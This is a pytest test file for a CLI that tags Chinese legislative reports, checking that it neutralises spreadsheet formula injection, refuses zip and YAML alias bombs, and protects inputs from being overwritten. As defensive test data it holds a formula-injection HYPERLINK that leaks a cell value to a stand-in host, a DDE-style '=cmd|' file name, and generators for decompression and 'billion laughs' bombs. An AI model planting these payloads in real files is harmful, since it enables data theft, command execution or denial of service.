"""Hostile inputs and careless runs that must not hurt the user: formulas, bombs, locks, output = input.

Each case runs the CLI as a user would (``run_cli`` is ``policytag`` in this
process; a few start the real script) and checks what the user meets: the exit
code, one line naming the file, and that nothing of theirs was destroyed.
"""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from test_resume import checkpoint_of, make_corpus
from test_robustness import POLICYTAG, REPORT, assert_clean_stderr, leftovers, records, run_cli

from policytag.write import FORMULA_TRIGGERS, restore_cell, spreadsheet_cell

# ----------------------------------------------------------------------------- formula injection
# Report text, a file name and a pre-cut id that a spreadsheet would run as formulas.
FORMULA = '=HYPERLINK("http://e.example/?"&A1,"点击")'
HOSTILE_REPORT = (f"{FORMULA}\n\n+1+2 常委会开展执法检查，听取审议专项工作报告。\n\n"
                  "-2+3 审议通过条例草案，开展立法调研。\n\n@SUM(1,2) 常委会召开会议12次。\n")


def _formula_like(value: object) -> bool:
    return isinstance(value, str) and value[:1] in FORMULA_TRIGGERS


def _csv_cells(path: Path, delimiter: str = ",") -> list[str]:
    import csv

    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh, delimiter=delimiter) for cell in row]


def _xlsx_cells(path: Path) -> list[object]:
    """Every cell value; fails if any cell is a formula (``<f>`` in the sheet XML)."""
    from openpyxl import load_workbook

    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name), f"{path}:{name} holds a formula"
    book = load_workbook(path)
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.fixture()
def hostile_dir(tmp_path: Path) -> Path:
    src = tmp_path / "in"
    src.mkdir()
    (src / "=cmd|' calc'!A0.txt").write_text(HOSTILE_REPORT, encoding="utf-8")
    return src


def test_spreadsheet_cell_neutralizes_what_a_spreadsheet_would_run_and_can_be_undone() -> None:
    for text in (FORMULA, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "'=1", "''+1"):
        safe = spreadsheet_cell(text)
        assert safe.startswith("'") and restore_cell(safe) == text
    for harmless in ("执法检查", "'引号", "a=b", "", " =1"):
        assert spreadsheet_cell(harmless) == harmless == restore_cell(harmless)
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(None) is None
    assert spreadsheet_cell(FORMULA, raw=True) == FORMULA


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_tag_tables_never_hold_a_live_formula(fmt: str, hostile_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / f"tagged.{fmt}"
    code, _, stderr = run_cli("tag", str(hostile_dir), "-o", str(out))
    assert code == 0, stderr
    cells = _csv_cells(out) if fmt == "csv" else _xlsx_cells(out)
    assert any(str(c).startswith(f"'{FORMULA}") for c in cells)  # the text is there, behind an apostrophe
    assert any(str(c).startswith("'=cmd|") for c in cells)  # the file name too
    assert not [c for c in cells if _formula_like(c)]


def test_precut_ids_are_neutralized_and_jsonl_parquet_keep_the_text(tmp_path: Path) -> None:
    src = tmp_path / "p.jsonl"
    src.write_text(json.dumps({"id": "=1+1", "text": "-常委会开展执法检查。"}, ensure_ascii=False) + "\n",
                   encoding="utf-8")
    outs = {fmt: tmp_path / f"t.{fmt}" for fmt in ("csv", "xlsx", "jsonl", "parquet")}
    for out in outs.values():
        code, _, stderr = run_cli("tag", str(src), "--input-format", "jsonl", "-o", str(out))
        assert code == 0, stderr
    assert {"'=1+1", "'-常委会开展执法检查。"} <= set(_csv_cells(outs["csv"]))
    assert {"'=1+1", "'-常委会开展执法检查。"} <= set(_xlsx_cells(outs["xlsx"]))
    row = records(outs["jsonl"])[0]
    assert (row["id"], row["text"]) == ("=1+1", "-常委会开展执法检查。")  # data, not a spreadsheet
    import pandas as pd

    back = pd.read_parquet(outs["parquet"]).iloc[0]
    assert (back["id"], back["text"]) == ("=1+1", "-常委会开展执法检查。")


def test_raw_cells_writes_text_as_it_is_but_never_as_a_formula(hostile_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "raw.xlsx"
    code, _, stderr = run_cli("tag", str(hostile_dir), "-o", str(out), "--raw-cells")
    assert code == 0, stderr
    cells = _xlsx_cells(out)  # still no <f>: xlsx text cells are always strings
    assert any(str(c).startswith(FORMULA) for c in cells)
    out = tmp_path / "raw.csv"
    run_cli("tag", str(hostile_dir), "-o", str(out), "--raw-cells")
    assert any(c.startswith(FORMULA) for c in _csv_cells(out))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_stats_tables_are_neutralized_and_read_back_exactly(fmt: str, hostile_dir: Path, tmp_path: Path) -> None:
    tagged = tmp_path / f"tagged.{fmt}"
    assert run_cli("tag", str(hostile_dir), "-o", str(tagged))[0] == 0
    out = tmp_path / f"stats.{fmt}"
    code, _, stderr = run_cli("stats", str(tagged), "-o", str(out), "--by", "doc")
    assert code == 0, stderr
    files = sorted(tmp_path.glob(f"stats*.{fmt}"))
    cells = [c for f in files for c in (_csv_cells(f) if fmt == "csv" else _xlsx_cells(f))]
    assert any(str(c).startswith("'=cmd|") for c in cells)  # doc_id from the file name
    assert not [c for c in cells if _formula_like(c)]
    from policytag.stats import load_tagged

    frame = load_tagged([str(tagged)])  # our own table back: the apostrophes are gone again
    assert frame["text"].str.startswith(FORMULA).any() and frame["doc_id"].str.startswith("=cmd|").all()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_indicators_table_is_neutralized(fmt: str, hostile_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / f"ind.{fmt}"
    code, _, stderr = run_cli("indicators", str(hostile_dir), "-o", str(out))
    assert code == 0, stderr
    cells = _csv_cells(out) if fmt == "csv" else _xlsx_cells(out)
    assert any(str(c).startswith("'=cmd|") for c in cells)
    assert not [c for c in cells if _formula_like(c)]


def test_kwic_tsv_is_neutralized(hostile_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "kwic.tsv"
    code, _, stderr = run_cli("lexicon", "kwic", "执法检查", str(hostile_dir), "--width", "200", "-o", str(out))
    assert code == 0, stderr
    cells = _csv_cells(out, delimiter="\t")
    assert any(c.startswith(f"'{FORMULA}") for c in cells)
    assert not [c for c in cells if _formula_like(c)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_suggest_table_is_neutralized_and_trains_on_the_original_text(fmt: str, tmp_path: Path) -> None:
    src = tmp_path / "p.jsonl"
    rows = [{"id": f"={i}", "text": f"-第{i}次常委会开展执法检查，审议条例草案。"} for i in range(4)]
    src.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    out = tmp_path / f"s.{fmt}"
    code, _, stderr = run_cli("suggest", str(src), "-n", "4", "-o", str(out))
    assert code == 0, stderr
    cells = _csv_cells(out) if fmt == "csv" else _xlsx_cells(out)
    assert "'=0" in cells and not [c for c in cells if _formula_like(c)]
    from policytag.write import read_spreadsheet

    back = read_spreadsheet(out, dtype=str, keep_default_na=False)
    assert set(back["text"]) == {r["text"] for r in rows}


# ----------------------------------------------------------------------------- the output is an input
def _precut(path: Path) -> Path:
    rows = ['{"text": "常委会开展执法检查。"}', '{"text": "审议通过条例草案，开展立法调研。"}']
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


def _tagged(path: Path) -> Path:
    src = _precut(path.with_name("src.jsonl"))
    assert run_cli("tag", str(src), "--input-format", "jsonl", "-o", str(path))[0] == 0
    return path


# (name, make the input in the folder -> (args, the file that must survive))
SAME_PATH = {
    "tag-report-as-jsonl": lambda d: (["tag", str(_report(d / "a.txt")), "-o", str(d / "a.txt"), "--format", "jsonl"],
                                      d / "a.txt"),
    "tag-precut": lambda d: (["tag", str(_precut(d / "p.jsonl")), "--input-format", "jsonl", "-o", str(d / "p.jsonl")],
                             d / "p.jsonl"),
    "tag-folder": lambda d: (["tag", str(_report(d / "a.txt").parent), "-o", str(d / "a.txt"), "--format", "csv"],
                             d / "a.txt"),
    "tag-hard-link": lambda d: (["tag", str(_precut(d / "p.jsonl")), "--input-format", "jsonl", "-o",
                                 str(_link(d / "p.jsonl", d / "hard.jsonl", hard=True))], d / "p.jsonl"),
    "tag-symlink": lambda d: (["tag", str(_precut(d / "p.jsonl")), "--input-format", "jsonl", "-o",
                               str(_link(d / "p.jsonl", d / "soft.jsonl", hard=False))], d / "p.jsonl"),
    "tag-other-spelling": lambda d: (["tag", str(_precut(d / "p.jsonl")), "--input-format", "jsonl", "-o",
                                      str(d / ".." / d.name / "p.jsonl")], d / "p.jsonl"),
    "tag-meta-sidecar": lambda d: (["tag", str(_report(d / "a.txt")), "--meta", str(_meta(d / "meta.csv")),
                                    "-o", str(d / "meta.csv"), "--format", "jsonl"], d / "meta.csv"),
    "segment": lambda d: (["segment", str(_report(d / "a.txt")), "-o", str(d / "a.txt")], d / "a.txt"),
    "report": lambda d: (["report", str(_tagged(d / "t.jsonl")), "-o", str(d / "t.jsonl")], d / "t.jsonl"),
    "stats-derived-name": lambda d: (["stats", str(_tagged(d / "s_labels.csv")), "-o", str(d / "s.csv")],
                                     d / "s_labels.csv"),
    "indicators": lambda d: (["indicators", str(_report(d / "a.txt")), "-o", str(d / "a.txt"), "--format", "jsonl"],
                             d / "a.txt"),
    "kwic": lambda d: (["lexicon", "kwic", "执法检查", str(_report(d / "a.txt")), "-o", str(d / "a.txt")], d / "a.txt"),
    "discover": lambda d: (["lexicon", "discover", str(_report(d / "a.txt")), "-o", str(d / "a.txt")], d / "a.txt"),
    "suggest": lambda d: (["suggest", str(_precut(d / "p.jsonl")), "-o", str(d / "p.jsonl")], d / "p.jsonl"),
    "bootstrap": lambda d: (["bootstrap", str(_precut(d / "p.jsonl")), "-o", str(d / "p.jsonl")], d / "p.jsonl"),
    "train-into-the-data-folder": lambda d: (["train", str(_labeled(d / "m" / "l.jsonl")), "-o", str(d / "m")],
                                             d / "m" / "l.jsonl"),
}


def _report(path: Path) -> Path:
    path.write_text(REPORT, encoding="utf-8")
    return path


def _meta(path: Path) -> Path:
    path.write_text("file,place,year\na.txt,东岭县,2020\n", encoding="utf-8")
    return path


def _labeled(path: Path) -> Path:
    path.parent.mkdir()
    rows = [{"text": f"常委会开展第{i}次执法检查。", "labels": ["监督"]} for i in range(6)]
    rows += [{"text": f"审议通过第{i}部条例草案。", "labels": ["立法"]} for i in range(6)]
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    return path


def _link(target: Path, link: Path, hard: bool) -> Path:
    (os.link if hard else os.symlink)(target, link)
    return link


@pytest.mark.parametrize("case", SAME_PATH, ids=list(SAME_PATH))
def test_an_output_that_is_an_input_is_refused_and_the_input_kept(case: str, tmp_path: Path) -> None:
    args, keep = SAME_PATH[case](tmp_path)
    before = keep.read_bytes()
    code, _, stderr = run_cli(*args)
    assert code == 2, stderr
    assert_clean_stderr(stderr)
    assert re.search(r"error: .*: the output (is also an input|folder holds the input)", stderr), stderr
    assert keep.read_bytes() == before
    assert not [n for n in leftovers(tmp_path) if n.endswith((".part", ".lock")) or ".partial." in n]


# ----------------------------------------------------------------------------- one run per output
HOLD_LOCK = """
import sys, time
from policytag.write import OutputLock
lock = OutputLock(sys.argv[1]).acquire()
print("held", flush=True)
time.sleep(600)
"""


def _hold_lock(out: Path) -> subprocess.Popen:
    proc = subprocess.Popen([sys.executable, "-c", HOLD_LOCK, str(out)], stdout=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "held"
    return proc


def test_a_second_run_on_the_same_output_is_refused_and_says_who_holds_it(tmp_path: Path) -> None:
    src = _report(tmp_path / "a.txt")
    out = tmp_path / "out.jsonl"
    holder = _hold_lock(out)
    try:
        code, _, stderr = run_cli("tag", str(src), "-o", str(out))
        assert code == 2
        assert_clean_stderr(stderr)
        assert re.search(rf"out\.jsonl is being written by another policytag run \(pid {holder.pid} on "
                         rf"{re.escape(socket.gethostname())}, started \d{{4}}-\d\d-\d\dT", stderr), stderr
        assert not out.exists() and not checkpoint_of(out).exists()  # the holder's checkpoint is not touched
    finally:
        holder.kill()
        holder.wait()
    # killed with SIGKILL: the kernel dropped the lock, the file it left behind does not block
    assert (tmp_path / ".out.jsonl.lock").exists()
    code, _, stderr = run_cli("tag", str(src), "-o", str(out))
    assert code == 0, stderr
    assert records(out) and leftovers(tmp_path) == []


def test_two_real_runs_into_one_output_never_tear_it(tmp_path: Path) -> None:
    src = make_corpus(tmp_path / "reports", 12, items=60)
    out = tmp_path / "same.jsonl"
    # The first run reads standard input first and waits there, holding the lock, until the second run is
    # over: the overlap is certain whatever the machine's load.
    first = subprocess.Popen([POLICYTAG, "tag", "-", str(src), "-o", str(out)], stdin=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while not (tmp_path / ".same.jsonl.lock").exists():
        assert first.poll() is None and time.monotonic() < deadline
        time.sleep(0.02)
    second = subprocess.run([POLICYTAG, "tag", str(src), "-o", str(out)], capture_output=True, text=True,
                            timeout=300)
    _, first_err = first.communicate("常委会开展执法检查。\n", timeout=300)
    assert second.returncode == 2 and "is being written by another policytag run" in second.stderr
    assert first.returncode == 1, first_err  # the corpus holds one binary file
    rows = records(out)  # every line whole JSON
    assert len({r["path"] for r in rows}) == 13  # standard input and the 12 readable files
    assert leftovers(tmp_path) == []


# ----------------------------------------------------------------------------- decompression bombs
def _inflating_member(zf: zipfile.ZipFile, name: str, megabytes: int, unit: bytes = b"\0", head: bytes = b"",
                      tail: bytes = b"") -> None:
    """A member that inflates to ``megabytes`` MB of ``unit`` repeated, written in chunks (never held whole)."""
    chunk = (unit * (2**20 // len(unit) + 1))[: 2**20 // len(unit) * len(unit)]
    with zf.open(name, "w", force_zip64=True) as fh:
        fh.write(head)
        for _ in range(megabytes):
            fh.write(chunk)
        fh.write(tail)


W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _docx_bomb(path: Path, megabytes: int) -> Path:
    """A real .docx whose document.xml is ``megabytes`` MB of valid paragraphs (python-docx would parse it all)."""
    from test_robustness import _docx_bytes

    good = zipfile.ZipFile(__import__("io").BytesIO(_docx_bytes(REPORT)))
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for info in good.infolist():
            if info.filename == "word/document.xml":
                _inflating_member(zf, info.filename, megabytes, "<w:p><w:r><w:t>执法检查</w:t></w:r></w:p>".encode(),
                                  head=b"<w:document " + W + b"><w:body>", tail=b"</w:body></w:document>")
            else:
                zf.writestr(info, good.read(info.filename))
    return path


@pytest.mark.parametrize("megabytes, why", [(300, r"zip archive would inflate to 300\.\d MB \(limit 256\.0 MB\)"),
                                            (40, r"member 'word/document\.xml' would inflate [\d,]+x")])
def test_docx_bomb_is_refused_before_inflating(megabytes: int, why: str, tmp_path: Path) -> None:
    src = tmp_path / "in"
    src.mkdir()
    bomb = _docx_bomb(src / "bomb.docx", megabytes)
    assert bomb.stat().st_size < 2**20 * megabytes / 100
    _report(src / "good.txt")
    out = tmp_path / "out.jsonl"
    code, _, stderr = run_cli("tag", str(src), "-o", str(out))
    assert code == 1
    assert_clean_stderr(stderr)
    assert re.search(rf"skipped .*bomb\.docx: {why}.*refused as a possible zip bomb", stderr), stderr
    assert {r["path"] for r in records(out)} == {str(src / "good.txt")}


def test_weights_npz_bomb_is_refused_before_inflating(tmp_path: Path) -> None:
    import shutil

    from policytag.resources import data_dir

    model = tmp_path / "model"
    shutil.copytree(data_dir("models") / "default", model)
    good = zipfile.ZipFile(model / "weights.npz")
    members = {i.filename: good.read(i.filename) for i in good.infolist()}
    good.close()
    with zipfile.ZipFile(model / "weights.npz", "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, data in members.items():
            if name == "values.npy":
                _inflating_member(zf, name, 200)  # 200 MB of zeros
            else:
                zf.writestr(name, data)
    assert (model / "weights.npz").stat().st_size < 2**20
    _report(tmp_path / "a.txt")
    code, _, stderr = run_cli("tag", str(tmp_path / "a.txt"), "--model", str(model))
    assert code == 2
    assert_clean_stderr(stderr)
    assert re.search(r"weights\.npz: member 'values\.npy' declares 200\.0 MB, more than the [\d.,]+ [KM]B its shape "
                     r"allows: refused \(corrupt, edited, or a zip bomb\)", stderr), stderr


def test_xlsx_bomb_given_to_stats_is_one_skipped_file(tmp_path: Path) -> None:
    good = _tagged(tmp_path / "t.jsonl")
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        _inflating_member(zf, "xl/worksheets/sheet1.xml", 300, b"<row><c><v>1</v></c></row>")
    code, stdout, stderr = run_cli("stats", str(good), str(bomb))
    assert code == 1
    assert re.search(r"skipped .*bomb\.xlsx: zip archive would inflate to 300\.0 MB", stderr), stderr
    assert "监督" in stdout  # the good file was counted


def _alias_bomb(path: Path) -> Path:
    """A 'billion laughs' lexicon of about a kilobyte: nine levels of nine aliases each."""
    lines = ["- term: 双联", "  category: 代表工作", "  definition: 联系代表",
             '  variants: &a0 ["联系代表甲", "联系代表乙"]']
    for i in range(1, 10):
        lines.append(f"- term: 票决制{i}\n  category: 代表工作\n  definition: x\n  variants: &a{i} [" +
                     ", ".join([f"*a{i - 1}"] * 9) + "]")
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("command", ["report", "tag", "lexicon-check", "kwic"])
def test_yaml_alias_bomb_in_a_lexicon_is_refused_at_once(command: str, tmp_path: Path) -> None:
    lexicon = _alias_bomb(tmp_path / "bomb.yaml")
    assert lexicon.stat().st_size < 2000
    tagged = _tagged(tmp_path / "t.jsonl")
    args = {"report": ["report", str(tagged), "-o", str(tmp_path / "r.html"), "--lexicon", str(lexicon)],
            "tag": ["tag", str(_report(tmp_path / "a.txt")), "--lexicon", str(lexicon)],
            "lexicon-check": ["lexicon", "check", str(lexicon)],
            "kwic": ["lexicon", "kwic", "双联", str(_report(tmp_path / "a.txt")), "--lexicon", str(lexicon)]}[command]
    started = time.process_time()
    code, stdout, stderr = run_cli(*args)
    assert code == 2
    assert "bomb.yaml:4: YAML anchors and aliases (&name, *name) are not allowed" in stdout + stderr
    assert time.process_time() - started < 30  # a guard against expansion, not a speed test (it takes ~0.1 s)


# ----------------------------------------------------------------------------- huge documents
def _limit_config(path: Path, megabytes: int = 1) -> Path:
    path.write_text(f"[read]\nmax_document_mb = {megabytes}\n", encoding="utf-8")
    return path


def test_a_document_over_the_size_limit_is_refused_and_the_others_go_on(tmp_path: Path) -> None:
    src = tmp_path / "in"
    src.mkdir()
    (src / "big.txt").write_text(REPORT * 8000, encoding="utf-8")  # 1.9 MB: refused before it is read
    with zipfile.ZipFile(src / "long.docx", "w", compression=zipfile.ZIP_DEFLATED) as zf:  # 38 KB, 2.1 MB of text
        good = zipfile.ZipFile(__import__("io").BytesIO(__import__("test_robustness")._docx_bytes(REPORT)))
        for info in good.infolist():
            if info.filename == "word/document.xml":
                _inflating_member(zf, info.filename, 2, f"<w:p><w:r><w:t>{'执法检查' * 100}</w:t></w:r></w:p>".encode(),
                                  head=b"<w:document " + W + b"><w:body>", tail=b"</w:body></w:document>")
            else:
                zf.writestr(info, good.read(info.filename))
    _report(src / "good.txt")
    out = tmp_path / "out.jsonl"
    code, _, stderr = run_cli("--config", str(_limit_config(tmp_path / "c.toml")), "tag", str(src), "-o", str(out))
    assert code == 1
    assert_clean_stderr(stderr)
    assert (f"policytag: skipped {src / 'big.txt'}: file of 1.9 MB is larger than read.max_document_mb = 1 "
            "(a higher limit in a --config file reads it)") in stderr.splitlines()
    assert re.search(r"skipped .*long\.docx: its text, 2\.\d MB of UTF-8, is larger than read\.max_document_mb = 1 ",
                     stderr), stderr
    assert {r["path"] for r in records(out)} == {str(src / "good.txt")}


def test_standard_input_over_the_size_limit_is_refused(tmp_path: Path) -> None:
    config = _limit_config(tmp_path / "c.toml")
    code, stdout, stderr = run_cli("--config", str(config), "segment", "-", stdin=REPORT * 8000)
    assert code == 1 and stdout == ""
    assert stderr.splitlines() == ["policytag: skipped -: standard input, more than 1.0 MB, is larger than "
                                   "read.max_document_mb = 1 (a higher limit in a --config file reads it)"]


def test_an_endless_device_is_refused_at_the_limit(tmp_path: Path) -> None:
    """/dev/zero has no size to check first: at most one byte over the limit is read, then it is refused."""
    _report(tmp_path / "good.txt")
    out = tmp_path / "out.jsonl"
    code, _, stderr = run_cli("--config", str(_limit_config(tmp_path / "c.toml")), "tag", "/dev/zero",
                              str(tmp_path / "good.txt"), "-o", str(out))
    assert code == 1
    assert ("policytag: skipped /dev/zero: file of more than 1.0 MB is larger than read.max_document_mb = 1 "
            "(a higher limit in a --config file reads it)") in stderr.splitlines()
    assert {r["path"] for r in records(out)} == {str(tmp_path / "good.txt")}


def test_a_named_pipe_is_tagged_into_a_file(tmp_path: Path) -> None:
    """``tag <(cmd) -o out``: the content hash taken for --resume read the pipe empty ("empty file")."""
    import contextlib
    import threading

    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    writer = threading.Thread(target=lambda: fifo.write_text(REPORT, encoding="utf-8"))
    writer.start()

    def unblock() -> None:  # if the pipe was read empty, a reader waiting for another writer gets EOF: no hang
        time.sleep(10)
        with contextlib.suppress(OSError):
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))

    threading.Thread(target=unblock, daemon=True).start()
    out = tmp_path / "out.jsonl"
    code, _, stderr = run_cli("tag", str(fifo), "-o", str(out))
    writer.join(10)
    assert code == 0, stderr
    assert "常委会开展执法检查，听取审议专项工作报告。" in [r["text"] for r in records(out)]


def test_two_hundred_thousand_short_lines_are_tagged_and_the_long_paragraph_cut_with_a_note(tmp_path: Path) -> None:
    """Issue 12: 200,000 lines the segmenter joins took more than 10 minutes (per-line rebuilds); one
    paragraph of 800,000 characters is now cut into paragraphs of at most 5,000, and the user is told."""
    raw = "执法检查\n" * 200_000
    (tmp_path / "lines.txt").write_text(raw, encoding="utf-8")
    out = tmp_path / "out.jsonl"
    code, _, stderr = run_cli("tag", str(tmp_path / "lines.txt"), "-o", str(out))
    assert code == 0
    assert_clean_stderr(stderr)
    notes = [line for line in stderr.splitlines() if line.startswith("policytag: note:")]
    assert notes == [f"policytag: note: {tmp_path / 'lines.txt'}: a paragraph longer than "
                     "segment.max_paragraph_chars = 5,000 cut after sentence ends (mid-sentence where none falls "
                     "within the limit): 800,000 characters (offsets 0–999999) -> paragraphs 0–159, 159 of the cuts "
                     "mid-sentence"]
    rows = records(out)
    assert [r["index"] for r in rows] == list(range(160))
    assert "".join(r["text"] for r in rows) == raw.replace("\n", "")
    assert all(raw[r["start"] : r["end"]].replace("\n", "") == r["text"] for r in rows)


def test_the_note_on_a_cut_paragraph_reaches_the_user_from_worker_processes(tmp_path: Path) -> None:
    """--jobs 2: the cut happens in a worker, which does not run the CLI's warning routing."""
    (tmp_path / "a.txt").write_text("执法检查\n" * 3000, encoding="utf-8")
    (tmp_path / "b.txt").write_text(REPORT, encoding="utf-8")
    config = tmp_path / "c.toml"
    config.write_text("[segment]\nmax_paragraph_chars = 1000\n", encoding="utf-8")
    args = ["--config", str(config), "tag", str(tmp_path / "a.txt"), str(tmp_path / "b.txt"), "--jobs", "2",
            "-o", str(tmp_path / "o.jsonl")]
    result = subprocess.run([POLICYTAG, *args], capture_output=True, text=True, timeout=300)
    assert result.returncode == 0
    assert_clean_stderr(result.stderr)
    assert (f"policytag: note: {tmp_path / 'a.txt'}: a paragraph longer than segment.max_paragraph_chars = 1,000 "
            "cut after sentence ends") in result.stderr


def test_html_nested_deeper_than_lxml_builds_keeps_the_text_after_it(tmp_path: Path) -> None:
    """3,000 unclosed <div>s: lxml stops building the tree at 256 levels and everything after was dropped
    without a word (a page cut short, exit 0). The page is read from parser events instead."""
    page = ("<!DOCTYPE html><html><head><meta charset='utf-8'></head><body><nav><a href='/'>首页</a></nav>"
            "<p>常委会开展执法检查，听取审议专项工作报告。</p>"
            + "<div>" * 3000 + "<p>审议通过条例草案，开展立法调研。</p>" + "</div>" * 3000
            + "<p>深入推进双联工作。</p></body></html>")
    (tmp_path / "deep.html").write_text(page, encoding="utf-8")
    code, stdout, stderr = run_cli("segment", str(tmp_path / "deep.html"))
    assert code == 0
    assert_clean_stderr(stderr)
    assert [json.loads(line)["text"] for line in stdout.splitlines()] == [
        "常委会开展执法检查，听取审议专项工作报告。", "审议通过条例草案，开展立法调研。", "深入推进双联工作。"]
    assert stderr.splitlines() == [
        f"policytag: note: {tmp_path / 'deep.html'}: a page nested deeper than 255 levels (unclosed tags?): all its "
        "text outside nav/header/footer/aside/script is read, without trafilatura's main-text extraction (a link "
        "bar in a plain <div> is kept)"]


def test_a_large_html_page_is_streamed_with_menus_left_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Pages over 5 MB skip trafilatura (65 CPU s and 4.5 GB for a 106 MB page, bench/bench_segment.py);
    the threshold is lowered here so that a small page takes the same road."""
    import policytag.read as read

    monkeypatch.setattr(read, "_HTML_STREAM_BYTES", 1000)
    rows = "".join(f"<p>第{i}项：常委会开展执法检查，\n听取审议专项工作报告。</p>\n" for i in range(100))
    page = ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>标题</title><script>var x = '<p>';</script>"
            "</head><body><header>网站首页</header><nav><ul><li>导航</li></ul></nav>" + rows
            + "<table><tr><td>代表</td><td>建议</td></tr></table><footer>版权所有</footer></body></html>")
    (tmp_path / "big.html").write_text(page, encoding="utf-8")
    code, stdout, stderr = run_cli("segment", str(tmp_path / "big.html"))
    assert code == 0
    assert_clean_stderr(stderr)
    texts = [json.loads(line)["text"] for line in stdout.splitlines()]
    assert texts[:2] == [f"第{i}项：常委会开展执法检查，听取审议专项工作报告。" for i in (0, 1)]
    assert len(texts) == 101 and texts[-1] == "代表\t建议"
    assert not any(word in "".join(texts) for word in ("网站首页", "导航", "版权所有", "标题", "var x"))
    assert re.fullmatch(r"policytag: note: .*big\.html: a page of 0\.0 MB \(over 0\.001 MB\): all its text .*",
                        stderr.strip()), stderr


@pytest.mark.parametrize("name", ["spreadsheet_cell", "OutputLock"])
def test_docstring_examples_run(name: str) -> None:
    import doctest

    import policytag.write as write

    finder = doctest.DocTestFinder(recurse=False)
    runner = doctest.DocTestRunner(optionflags=doctest.ELLIPSIS)
    for test in finder.find(getattr(write, name), name, globs=vars(write).copy()):
        runner.run(test)
    assert runner.tries > 0 and runner.failures == 0
